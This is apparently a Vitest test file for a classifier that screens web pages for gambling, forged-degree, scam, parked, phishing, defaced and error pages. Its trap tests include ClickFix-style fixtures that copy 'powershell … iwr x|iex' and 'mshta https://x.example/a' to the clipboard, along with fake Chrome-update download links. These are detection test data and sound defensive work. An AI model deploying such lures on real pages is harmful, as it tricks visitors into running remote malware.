import { describe, expect, it } from "vitest";
import { listParkedReasons } from "./find-parked.ts";
import { listPhishingReasons, listTrapReasons } from "./find-traps.ts";
import { isTraderAlone, listUnfitReasons } from "./find-unfit.ts";
import {
  findLeftoverSign,
  findMissingBox,
  findMissingNotice,
  findNotFoundSign,
  findProductSign,
  findRobotWallProduct,
  findRobotWallWords,
} from "./page-signs.ts";
import { readPage } from "./read-page.ts";
import { sumOf } from "./reason.ts";

const address = "https://www.path-finder.org/guide";
const page = (title: string, body: string) =>
  readPage(`<title>${title}</title><h1>${title}</h1>${body}`, address);
const weightOf = (title: string, body: string) => sumOf(listUnfitReasons(page(title, body), "", true));

describe("pages about a delicate matter", () => {
  const offers =
    "<p>Sports betting, online casino, free spins and casino bonus codes with no deposit bonus.</p>";

  it("words of a school do not make up for a trader's, so that a person is asked", () => {
    const school = "<p>Students, teachers, lessons, courses, exams, homework and pupils.</p>".repeat(2);
    expect(weightOf("Maths for pupils", `${school}<p>Casino bonus.</p>`)).toBe(0);
    expect(weightOf("Maths for pupils", offers + school)).toBe(2);
  });

  it("one of a trader's words is enough to ask where an app is to be installed past the shops", () => {
    const school = "<p>Students, teachers, lessons, courses, exams, homework and pupils. Online casino.</p>";
    expect(weightOf("Maths for pupils", `${school}<a href="/maths.apk">Get it</a>`)).toBe(2);
    expect(weightOf("Maths for pupils", `${school}<a href="/maths.pdf">Get it</a>`)).toBe(0);
  });

  it("three of a casino's words among an approved school's, with something to press, are asked about", () => {
    const school = "<p>Students, teachers, lessons, courses, exams, homework and pupils.</p>".repeat(2);
    const lines = "<p>Online casino for students</p><p>Sports betting for teachers</p><p>Free spins</p>";
    expect(weightOf("Maths for pupils", `${school}${lines}<a href="/x">Play now</a>`)).toBe(2);
    expect(weightOf("Maths for pupils", school + lines)).toBe(0);
  });

  it("nor does it if the title is a trader's, too, and visitors are to press something", () => {
    const school = "<p>Students, teachers, lessons, courses, exams, homework and pupils. Bitcoin.</p>";
    const trading = "Trade with an AI trading platform";
    expect(weightOf(trading, `${school}<button>Register now</button>`)).toBe(3);
    expect(weightOf(trading, school)).toBe(0);
    expect(weightOf("Maths", `${school}<p>AI trading platform</p><button>Register now</button>`)).toBe(0);
    const app = school.replace("Bitcoin.", '<a href="/t.apk">Get it</a><button>Register now</button>');
    expect(weightOf(trading, app)).toBe(2);
  });

  it("medicines are those of a course on them, until one of them can be ordered", () => {
    const units =
      "<p>Sildenafil (Viagra), tadalafil (Cialis), tramadol, Xanax and semaglutide: doses and dangers.</p>";
    const weigh = (promised: string, more = "") =>
      sumOf(listUnfitReasons(page("Open units", units + more), promised, true));
    expect(weigh("Lectures on rivers")).toBeGreaterThanOrEqual(3);
    expect(weigh("Lectures in pharmacology")).toBe(0);
    expect(weigh("Lectures in pharmacology", "<button>Order now</button>")).toBeGreaterThanOrEqual(3);
  });

  it("what is only in quotation marks is said by others", () => {
    const advert =
      "Buy a degree online: original diploma for sale, registered, fake transcripts, buy a diploma";
    const weigh = (quoted: string) => weightOf("Recognition of degrees", `<p>Sellers write: ${quoted}.</p>`);
    expect(weigh(`“${advert}”`)).toBe(0);
    expect(weigh(advert)).toBeGreaterThan(0);
    expect(weigh(`“${advert}”, and ${advert}`)).toBeGreaterThan(0);
  });

  describe("at a first look", () => {
    const guide =
      "<p>Adverts for an online casino promise free spins and a no deposit bonus. Warning signs of addiction.</p>";
    const first = (title: string, body: string) =>
      sumOf(
        listUnfitReasons(page(title, `${body}<p>Our helpline listens.</p>`), "", false, "path-finder.org"),
      );

    it("who warns and helps is let be, whoever is linked to among schools, offices and associations", () => {
      expect(first("Gambling harm: for parents", guide)).toBe(0);
      const links =
        '<a href="https://www.health.gov.uk/x">NHS</a><a href="https://path-finder.org/y">More</a>';
      expect(first("Gambling harm: for parents", guide + links)).toBe(0);
    });

    it.each([
      ["has visitors press what a trader would", `${guide}<a href="/go">Claim your bonus</a>`],
      ["has a button for it", `${guide}<button>Play now</button>`],
      ["has a picture for it", `${guide}<a href="/go"><img src="b.png" alt="Play now"></a>`],
      ["has a form for it", `${guide}<form><input type="submit" value="Claim your bonus"></form>`],
      ["has something else that is pressed", `${guide}<div role="button">Visit casino</div>`],
      ["tells it to those who see no picture", `${guide}<a href="/go" aria-label="Bet now"><svg/></a>`],
      ["has visitors join", `${guide}<a href="/go">Sign up now</a>`],
      ["has visitors register at once", `${guide}<button>Jetzt registrieren</button>`],
      ["has visitors join for what traders give", `${guide}<a href="/go">Sign up and get 100 free spins</a>`],
      ["leads to a stranger", `${guide}<a href="https://go.reel.example/7">Read on</a>`],
    ])("who warns and %s is not", (_, body) => {
      expect(first("Gambling harm: for parents", body)).toBeGreaterThanOrEqual(2);
    });

    it.each([
      [
        "leads to others who help",
        '<a href="https://www.gamstop.co.uk/">GAMSTOP</a> <a href="https://gamban.com/">x</a>',
      ],
      [
        "has visitors join a list or a class",
        "<button>Sign up for our newsletter</button> <button>Join the workshop</button>",
      ],
      [
        "lists what it has, in a trader's word",
        '<a href="/a">Daftar artikel</a> <a href="/b">Daftar isi</a>',
      ],
    ])("who warns and %s is", (_, body) => {
      expect(first("Gambling harm: for parents", guide + body)).toBe(0);
    });

    it("and who is headed as a trader is not, for a word of warning below", () => {
      expect(first("Online casino: free spins, betting sites", guide)).toBeGreaterThanOrEqual(2);
    });

    it("who speaks to schools and has them press a trader's button is asked about", () => {
      const school =
        "<p>For pupils, teachers, parents and schools: a lesson. Free spins, and no deposit bonus.</p>";
      expect(first("For schools", school)).toBe(0);
      expect(first("For schools", `${school}<button>Play now</button>`)).toBe(2);
    });
  });

  it("what was promised does not excuse a page that only trades in it", () => {
    const trades = (body: string) => isTraderAlone(page("Online casino help", body));
    expect(trades(offers)).toBe(true);
    expect(trades(`${offers}<p>We tell pupils how to block them.</p>`)).toBe(false);
    expect(
      trades(
        `<p>Online casino, sports betting.</p>${"<p>We listen, day and night, for free.</p>".repeat(9)}`,
      ),
    ).toBe(false);
  });

  it("what a fraud is paid in is not enough, and what it asks for beside it is", () => {
    const told = "<p>Ask us on WhatsApp. Deposits are refunded.</p>";
    expect(weightOf("What is USDT?", told)).toBe(0);
    expect(
      weightOf("Pay in USDT", `${told}<p>Card number and OTP, and a release fee.</p>`),
    ).toBeGreaterThanOrEqual(3);
  });

  it("who promises diplomas has not promised that they are forged", () => {
    const forger = page("Купить диплом", "<p>Купить диплом с занесением, купить аттестат. Гознак.</p>");
    expect(sumOf(listUnfitReasons(forger, "Diplomy, diplom, диплом", false))).toBeGreaterThanOrEqual(2);
    expect(listUnfitReasons(forger, "Купить диплом: как распознать обман", false)).toEqual([]);
  });

  it("a degree for sale without study is asked about where the page is headed by it", () => {
    const sold = "<p>Sin estudiar, registrado en el ministerio. Título desde 1.500 euros.</p>";
    expect(weightOf("Comprar título universitario", sold)).toBe(2);
    expect(weightOf("Título universitario", sold)).toBe(0);
  });

  it("who checks degrees is asked about where the law on forged ones is told", () => {
    const checks = "<p>Diploma waarderen, diploma controleren, kosten 150 euro.</p>";
    const forged = "<p>Een nepdiploma kopen, of een diploma kopen</p>";
    expect(weightOf("Diploma", `${checks}${forged}<p>zonder les.</p>`)).toBe(3);
    expect(weightOf("Diploma", `${checks}${forged}<p>is strafbaar.</p>`)).toBe(2);
  });

  it("one phrase is not three for the words within it that other lists have", () => {
    expect(weightOf("Diploma waarderen", "<p>Laat een diploma waarderen. Diploma kopen?</p>")).toBe(0);
  });

  it("a lesson on names for sale is not a name for sale", () => {
    const lesson =
      "<p>Pupils learn what a domain name is, who sells it and when it expires. A lesson for teachers.</p>";
    const reasons = (body: string, title = "How it works") =>
      sumOf(listParkedReasons(page(title, body), address));
    expect(reasons(lesson)).toBeLessThan(2);
    expect(reasons("<p>This domain name is for sale. Buy it now.</p>")).toBeGreaterThanOrEqual(3);
    expect(
      reasons("<p>path-finder.org is for sale to teachers, schools and pupils.</p>"),
    ).toBeGreaterThanOrEqual(3);
    expect(reasons("<p>Old books for sale at path-finder.org, by pupils of both schools.</p>")).toBeLessThan(
      2,
    );
    expect(
      reasons("<p>Our domain path-finder.org had expired; teachers and pupils can write to us again.</p>"),
    ).toBeLessThan(3);
    const menu = '<a href="/a">Lessons</a> <a href="/b">Library</a><h2>Task</h2><h2>Glossary</h2>';
    const told = (body: string) => reasons(`${menu}<p>Sponsored listings.</p>${body}`, "Domain for sale?");
    expect(told(lesson)).toBe(0);
    expect(told("<p>Courses.</p>")).toBeGreaterThanOrEqual(3);
    expect(told(`${lesson}<a href="https://go.example/">Courses</a>`)).toBeGreaterThanOrEqual(3);
    expect(told(`${lesson}<p>path-finder.org</p>`)).toBeGreaterThanOrEqual(3);
  });

  it.each([
    ["path-finder.org", "<p>Registration for courses at path-finder.org is free for pupils.</p>"],
    ["Path-finder.org", "<p>Path-finder.org Premium opens every lesson. Schools can buy a licence.</p>"],
    ["Visit us", "<p>Parking is available at path-finder.org for students and teachers.</p>"],
    ["Books | path-finder.org", "<h2>Old books for sale</h2><p>Pupils bring them to the school library.</p>"],
    ["Write to us", "<p>Make an offer or enquire: office@path-finder.org</p>"],
  ])("a site that calls itself by its address may speak of what traders speak of: %s", (title, body) => {
    expect(sumOf(listParkedReasons(page(title, body), address))).toBeLessThan(2);
  });
});

it.each([
  ["Workbooks", "Workbooks from path-finder.org for sale at school fairs.", 0, 3],
  ["Workbooks", "The books of path-finder.org are for sale at our office.", 0, 3],
  ["Path-finder.org", "The books of path-finder.org are for sale at our office.", 0, 3],
  ["Write to us", "Website: path-finder.org. For sale: two microscopes of the school.", 0, 3],
  ["Related searches", "Interested in path-finder.org? Make an offer today.", 2, 3],
  ["Related searches", "path-finder.org may be for sale. Click here to inquire.", 2, 3],
  ["Related searches", "path-finder.org is for sale.", 3, 5],
  ["Related searches", "The domain name path-finder.org is for sale.", 3, 5],
])(
  "among words of education, an offer behind the page's own name is sure only of the name: %s, %s",
  (title, said, least, below) => {
    const searches = "<p>Online courses for students</p><p>Teacher training</p><p>Private schools</p>";
    const weight = sumOf(listParkedReasons(page(title, `<p>${said}</p>${searches}`), address));
    expect(weight).toBeGreaterThanOrEqual(least);
    expect(weight).toBeLessThan(below);
  },
);

it("a school's news is asked about where three entries are on betting and say nothing else", () => {
  const news = (...entries: string[]) =>
    weightOf(
      "Hill School",
      `<p>${"Pupils, teachers, lessons, courses and exams. ".repeat(3)}</p><ul><li>${entries.join("</li><li>")}</li></ul>`,
    );
  const bets = ["Best online casino", "Free spins today", "Betting sites in August"];
  expect(news(...bets, "Dates of the exams")).toBe(2);
  expect(news(...bets.slice(1), "Dates of the exams")).toBe(0);
  expect(news(...bets.slice(1), "Online casino: a lesson")).toBe(0);
  expect(news(...bets, "Addiction: a helpline")).toBe(0);
  expect(news("Our team wins 3-1", "Football: the final", "Football on Friday")).toBe(0);
});

it("a school's own lesson that leads to nobody is asked about, however new, and believed a trader's if it leads on", () => {
  const lesson =
    "<p>Pills: modafinil, Xanax, fentanyl. Four lessons for teachers, pupils and a school nurse.</p>";
  const weigh = (body: string, isOwners = true) =>
    sumOf(listUnfitReasons(page("Modafinil and Xanax", body), "", true, "path-finder.org", () => isOwners));
  expect(weigh(lesson)).toBe(2);
  expect(weigh(lesson, false)).toBeGreaterThanOrEqual(3);
  expect(weigh(`${lesson}<a href="https://path-finder.org/next">Next</a>`)).toBe(2);
  expect(weigh(`${lesson}<a href="https://rx.example/">Shop</a>`)).toBeGreaterThanOrEqual(3);
});

it("who sells papers plainly is believed where a person knew the page, and asked about where nobody did", () => {
  const offer =
    "<p>Our tutors will write your essay, undetectable, with a plagiarism report. Prices per page.</p>";
  const button = '<a href="/o">Order now</a>';
  const sell = (body: string, isApproved: boolean) =>
    listUnfitReasons(page("Academic support", body), "", isApproved).find(({ text }) =>
      text.includes("papers or degrees"),
    )?.weight;
  expect(sell(offer + button, true)).toBe(3);
  expect(sell(offer + button, false)).toBe(2);
  expect(sell(offer, true)).toBe(2);
  expect(sell(`<p>Our tutors read your essay with you. Prices per hour.</p>${button}`, true)).toBeUndefined();
});

it("a plain word that was promised excuses no trader who has something to press", () => {
  const loans = "<p>Payday loan, instant loan and bad credit loan: a loan for everybody, today.</p>";
  const lends = (body: string, promised: string) =>
    sumOf(listUnfitReasons(page("Quick loans", body), promised, true, "path-finder.org"));
  expect(lends(`${loans}<a href="https://quick.example/">Apply</a>`, "A loan of a helmet.")).toBe(4);
  expect(lends(loans, "A loan of a helmet.")).toBe(0);
  expect(lends(`${loans}<a href="https://quick.example/">Apply</a>`, "What a payday loan costs.")).toBe(0);
});

describe("what a page does, whatever it says", () => {
  const form = (action: string) =>
    `<form action="${action}"><input name="id"><input type="password"></form><p>Your application.</p>`;
  const phishing = (body: string) => sumOf(listPhishingReasons(page("Apply", body), address, ""));
  const traps = (body: string) => sumOf(listTrapReasons(page("Timetable", body)));

  it("a password that is sent to strangers is asked about, and one to its own site or a known door is not", () => {
    expect(phishing(form("https://collect.example/g"))).toBe(2);
    expect(phishing(form("/login"))).toBe(0);
    expect(phishing(form("https://id.path-finder.org/login"))).toBe(0);
    expect(phishing(form("https://login.microsoftonline.com/x"))).toBe(0);
  });

  it("a command to be pasted is a trap, and one in a lesson's text is none", () => {
    expect(traps('<script>navigator.clipboard.writeText("powershell -w h -c iwr x|iex")</script>')).toBe(3);
    expect(traps("<p>Copy powershell to the clipboard.</p><script>navigator.clipboard.read()</script>")).toBe(
      0,
    );
  });

  it("a command that a button copies is a trap as well, and one that the page shows is asked about", () => {
    const button =
      "<button onclick=\"navigator.clipboard.writeText('mshta https://x.example/a')\">I am human</button>";
    expect(traps(button)).toBe(3);
    expect(traps(`${button}<p>Type mshta.</p>`)).toBe(2);
    const steps = "<ol><li>Pulsa Windows + R</li><li>En la ventana pulsa Ctrl + V</li></ol>";
    const copied = `<button onclick="navigator.clipboard.writeText(atob(window.v))">No soy un robot</button>${steps}`;
    expect(traps(copied)).toBe(2);
    const held = copied.replace("Windows + R", "&amp; hold the Windows Key <b>⊞</b> + <b>R</b>.");
    expect(traps(held)).toBe(2);
    const onMac = "<li>Abra Terminal con Spotlight</li><li>Pulse Command (⌘) + V</li>";
    expect(traps(copied.replace(steps, onMac))).toBe(2);
    const lesson = copied.replace("atob(window.v)", "this.dataset.line");
    expect(traps(lesson.replace(steps, `${onMac}<li>ssh lab.school.org</li>`))).toBe(0);
    expect(traps(steps)).toBe(0);
    expect(traps("<button onclick=\"navigator.clipboard.writeText('MLA 9')\">Cite</button>")).toBe(0);
  });

  it("a label for filters is asked about, and one that is shown is none", () => {
    const label = '<meta name="rating" content="RTA-5042-1996-1400-1577-RTA">';
    expect(traps(label)).toBe(2);
    expect(traps(`<code>${label.replace("<", "&lt;")}</code>`)).toBe(0);
  });

  it("a new browser from another site is asked about, in a script that is its own address as well", () => {
    expect(traps('<a href="https://dl.example/get.php?b=chrome" download>Update</a>')).toBe(2);
    const script = (text: string) => `<script src="data:text/javascript;base64,${btoa(text)}"></script>`;
    const lay = "d.innerHTML='<h1>Update Chrome</h1><a href=https://dl.example/New.zip>Go</a>'";
    expect(traps(script(lay))).toBe(2);
    expect(traps(script("d.innerHTML='<a href=https://dl.example/Sheets.zip>Go</a>'"))).toBe(0);
  });

  it("a program from another site that downloads itself is asked about", () => {
    expect(traps('<a href="https://dl.example/Update.js" download>Update</a>')).toBe(2);
    expect(traps('<a href="https://dl.example/Chrome_Update_131.zip" download>Aktualizuj</a>')).toBe(2);
    expect(traps('<a href="https://dl.example/monochrome_pictures.zip" download>Pictures</a>')).toBe(0);
    expect(traps('<a href="https://dl.example/p5.js">p5.js</a><a href="/kit.exe" download>Kit</a>')).toBe(0);
  });
});

it("a host that closed an unpaid site is not a wall", () => {
  const closed = page("안내", "<p>호스팅 서비스 기간이 만료되어 접속이 차단되었습니다.</p>");
  expect(findRobotWallWords(closed)).toBeUndefined();
  expect(findLeftoverSign(closed)).toBe('it says "호스팅 … 만료"');
  expect(findRobotWallWords(page("안내", "<p>접속이 차단되었습니다.</p>"))).toBe('it says "접속이 차단"');
});

it("a lesson about walls has sections and teaches, and a wall asks", () => {
  const sign = (body: string) =>
    findRobotWallWords(page("Are you a robot?", `<h2>Task</h2><h2>Why</h2>${body}`));
  expect(sign("<p>Pupils build a captcha, the teacher has a worksheet: a lesson.</p>")).toBeUndefined();
  expect(sign("<p>What can I do? Pupils wait.</p>")).toBe('it says "are you a robot"');
});

it("a box that says so and sends visitors back is not a page; beside a page it changes nothing", () => {
  const box = '<script>alert("This post does not exist.");history.back();</script>';
  expect(findNotFoundSign(page("Board", box))).toBe('a box says "This post does not exist."');
  expect(findNotFoundSign(page("Board", `${box}<p>${"A post about tides. ".repeat(5)}</p>`))).toBeUndefined();
});

it("a box that says so before visitors are sent on is told, and one that sends them to a new address is not", () => {
  const box = (text: string) =>
    findMissingBox(page("Board", `<script>alert("${text}");location.href="/board";</script>`));
  expect(box("This post does not exist.")).toBe('it says "does not exist"');
  expect(box("Our board has a new address.")).toBeUndefined();
});

it("what a program shows for an error is not a page, nor what a fresh server shows a site", () => {
  const moodle = page("Fehler", '<div class="errorbox" data-rel="fatalerror">Kein Datensatz</div>');
  expect(findNotFoundSign(moodle)).toBe("it is what Moodle shows where no page is");
  const apache = "<p>This page is used to test the proper operation of the HTTP server.</p>";
  expect(findProductSign(page("Test Page", apache), "fresh")).toBe(
    "it is what Apache shows where no site is",
  );
  expect(findProductSign(page("403 Forbidden", "<hr>nginx"), "fresh")).toBeUndefined();
});

it("a list with nothing in it says so in few words", () => {
  const list = (text: string) => findMissingNotice(page("Courses", `<p>${text}</p>`), "empty");
  expect(list("0 courses found. Try other filters.")).toBe('it says "0 courses"');
  expect(list("Twelve courses found.")).toBeUndefined();
  expect(list(`No results. ${"A course on tides. ".repeat(30)}`)).toBeUndefined();
  expect(list("<h2>Course</h2><h2>Units</h2>0 courses")).toBe('it says "0 courses"');
  expect(findMissingNotice(page("Courses", "<h2>Course</h2><h2>Units</h2>Page not found"))).toBeUndefined();
});

it("an empty page that leaves a cookie and calls itself again is a wall", () => {
  const sign = (script: string, text = "") =>
    findRobotWallProduct(readPage(`<script>${script}</script><p>${text}</p>`, address));
  const knock = "document.cookie='a='+('1');location.href=location.pathname+location.search";
  expect(sign(knock)).toBe("it leaves a cookie and calls itself again");
  expect(sign("document.cookie='seen=1';location.reload()")).toBeDefined();
  expect(sign("document.cookie='seen=1';location.href='/home'")).toBeUndefined();
  expect(sign(knock, "A lesson about tides. ".repeat(5))).toBeUndefined();
});

it.each([
  ["behind a drawing that closes itself", "<svg class='i'/>Casino"],
  ["behind a drawing with an empty title", "<svg><title/><style/><path d='M0'/></svg>Casino"],
  ["behind a drawing that is never closed", "<svg><path d='M0'><p>Casino</p>"],
  ["with a place to break the line", "Ca<wbr>si<wbr/>no"],
])("a word is read %s, and what a drawing is called is not", (_, body) => {
  expect(page("", body).words).toEqual(["casino"]);
  expect(page("", `<svg><title>Logo</title><text>Sail</text></svg>${body}`).words).toEqual(["casino"]);
});

describe("a wall's product", () => {
  const wall = (body: string, status = 200) => findRobotWallProduct(page("School garden", body), status);
  const lesson = `<p>${"Pupils and teachers grow beans, and count bees and snails each week. ".repeat(3)}</p>`;

  it("is a wall if it works in the page, or is named by a server that refuses", () => {
    expect(wall('<form action="/.well-known/sgcaptcha/"><input type="submit"></form>')).toMatch(/SiteGround/);
    expect(wall('<iframe src="/_Incapsula_Resource?CWUDNSAI=23"></iframe>')).toMatch(/Imperva/);
    expect(wall("<p>Generated by Wordfence</p>", 403)).toMatch(/Wordfence/);
  });

  it("is not if it is written about, linked to or noted, or watches over a page that is there", () => {
    expect(wall("<p>We compare Wordfence, Sucuri and Imperva.</p><!-- crowdsec -->")).toBeUndefined();
    expect(wall('<a href="https://sucuri.net/"><img src="/sucuri.png" alt="Sucuri"></a>')).toBeUndefined();
    const script = '<script src="/_Incapsula_Resource?SWJIYLWA=719"></script>';
    expect(wall(lesson + script)).toBeUndefined();
    expect(wall(`${lesson}<p>Access denied.</p>${script}`)).toMatch(/Imperva/);
  });
});

describe("a title that says something is not there", () => {
  const lesson = `<p>${"Pupils draw the function, and the teacher asks the class for a proof. ".repeat(6)}</p>`;
  const lost = "<p>Sorry. Try the search, or one of the links.</p>";
  const sign = (title: string, body: string) => findNotFoundSign(page(title, body));

  it.each([
    "A limit does not exist",
    "Page not found: how libraries lost their links",
    "La página no existe: historias de la red",
  ])("is a lesson's with a lesson below, and a lost page's with nothing: %s", (title) => {
    expect(sign(title, lesson)).toBeUndefined();
    expect(sign(title, lost)).toBeDefined();
  });

  it("is a lost page's with anything below where it says no more", () => {
    expect(sign("Page not found | Open Maths", lesson)).toBe('it says "page not found"');
    expect(sign("Error 404: page not found", lesson)).toBe('it says "error 404"');
  });
});

it("grants for a fee and sure profits are asked about by what is said together, and warnings of them are not", () => {
  const weigh = (heading: string, text: string) =>
    sumOf(
      listUnfitReasons(
        readPage(`<title>${heading}</title><h1>${heading}</h1><p>${text}</p>`, "https://a.example/"),
        "",
        false,
      ),
    );
  const fee =
    "Keine Noten, kein Gespräch. Bearbeitungsgebühr von 289 € per Krypto, Kopie der Bankkarte. Nur noch 9 Plätze!";
  expect(weigh("Ihr Stipendium, 100 % sicher", fee)).toBe(2);
  expect(weigh("Falsche Stipendien", `Betrug: ${fee}`)).toBe(0);
  const profit =
    "أرباح مضمونة ومن دون أي مخاطرة. ادعُ أصدقاءك وتواصل عبر تيليجرام. العرض ينتهي هذه الليلة، دفعات";
  expect(weigh("تعلّم التداول", profit)).toBe(2);
  expect(weigh("تعلّم التداول", `احتيال: ${profit}`)).toBe(0);
  const evening =
    "Keine Noten. Nur noch vier Plätze frei! Freunde werben und eine Tasse bekommen. Erste Stunde ohne Risiko: Geld zurück garantiert. Per WhatsApp.";
  expect(weigh("Volkshochschule Waldtal", evening)).toBe(0);
  const college =
    "There is no application fee. A deposit of £500 counts towards tuition. A room is guaranteed. Ask us on WhatsApp.";
  expect(weigh("How to apply", college)).toBe(0);
  const advance =
    "No interview and no IELTS. A processing fee of 120 dollars is paid by Western Union before your letter is sent. Only five places left. Write to us on WhatsApp.";
  expect(weigh("Your scholarship abroad", advance)).toBe(2);
  const open =
    "Start without entrance exam. The registration fee is paid in instalments. Only nine places left. Ask us on WhatsApp; advice is confidential.";
  expect(weigh("Open Learning Centre", open)).toBe(0);
  expect(weigh("Campus Gate", `${open} Pay an advance to our agent.`)).toBe(2);
});

it.each([
  [
    "ဘောလုံးလောင်း",
    "ဘော်ဒီမောင်း၊ ငါးပစ်ဂိမ်း။ ငွေသွင်းငွေထုတ် ၃ မိနစ်",
    "ဘောလုံးသင်တန်း",
    "ကလေးများအတွက် ဘောလုံးသင်တန်း၊ ဆရာများ ဘောနပ်စ်",
  ],
  ["ກາຊີໂນອອນລາຍ", "ບາກາຣາ ເສືອມັງກອນ ພະນັນບານ", "ຊາວປະມົງ", "ເດັກນ້ອຍຮຽນຮູ້ການຫາປາ ການຍິງປາດ້ວຍໜ້າໄມ້"],
  ["ល្បែងស៊ីសង", "កាស៊ីណូ ភ្នាល់បាល់ទាត់", "ល្បែងប្រជាប្រិយ", "ល្បែងបោះអង្គញ់ ល្បែងទាញព្រ័ត្រ ល្បែងអុក"],
])(
  "games for money are known in Burmese, Lao and Khmer, and other games are not taken for them: %s",
  (bad, offer, good, games) => {
    expect(weightOf(bad, `<p>${offer}</p>`)).toBeGreaterThanOrEqual(3);
    expect(weightOf(good, `<p>${games}</p>`)).toBe(0);
  },
);

describe("an intruder's name in the head", () => {
  const menu = ["News", "Topics", "Town", "Contact"]
    .map((name) => `<a href="/${name}">${name}</a>`)
    .join(" ");
  const news = "<p>The security team restored the server on Monday. An admin of the crew was found.</p>";
  const atFirst = (title: string, body: string) => sumOf(listUnfitReasons(page(title, body), "", false));

  it.each([
    ["Hacked By ZeroDay", "You left the door open."],
    ["H4CK3D BY F4llaga", "لا إله إلا الله"],
    ["Library | 0wned by SpectreX", "We are everywhere."],
    ["Diretas oleh Bocah Kampung", "Halo bapak ibu guru."],
    ["ستاسو وېبپاڼه هک شوه", "مدیر صاحب، خپل سرور خوندي کړئ."],
    ["यह वेबसाइट हैक कर ली गई है", "जय हिन्द"],
    ["Hakovano od strane Orlova", "Vaš sajt nije bezbedan."],
  ])("is enough to ask where there is no menu, or it was approved without that name: %s", (title, text) => {
    expect(atFirst(title, `<p>${text}</p>`)).toBeGreaterThanOrEqual(2);
    expect(atFirst(title, `${menu}<p>${text}</p>`)).toBe(0);
    expect(weightOf(title, `${menu}<p>${text}</p>`)).toBe(2);
    expect(weightOf(title, `${menu}<p>${text}</p>${"<p>A long report.</p>".repeat(30)}`)).toBe(0);
  });

  it("is his own page's, whatever accounts of his it leads to, and whatever its school's menu teaches", () => {
    const accounts = ["t.me", "x.com", "mirror.example", "discord.gg"]
      .map((host) => `<a href="https://${host}/zero">${host}</a>`)
      .join(" ");
    expect(atFirst("Hacked By ZeroDay", `<p>Admin, greetz to all.</p>${accounts}`)).toBeGreaterThanOrEqual(3);
    const school = `${menu}<a href="/lessons">Lessons for pupils</a>`;
    expect(weightOf("Elm School", `${school}<h2>Hacked by ZeroDay</h2><p>Admin, wake up.</p>`)).toBe(2);
  });

  it("hides no page that tells of it in a menu", () => {
    expect(weightOf("Hospital hacked by a crew", menu + news)).toBe(2);
    expect(weightOf("Hospital hacked by a crew", news)).toBeGreaterThanOrEqual(3);
  });

  it.each([
    ["A school owned by its teachers", "No shareholder takes a penny."],
    ["Touched by a book", "Twelve pupils write about it."],
    ["Okul siteniz hacklenirse ne yapmalı?", "Öğretmenler için kılavuz."],
  ])("is none of an honest page without a menu: %s", (title, text) => {
    expect(weightOf(title, `<p>${text}</p>`)).toBe(0);
  });
});
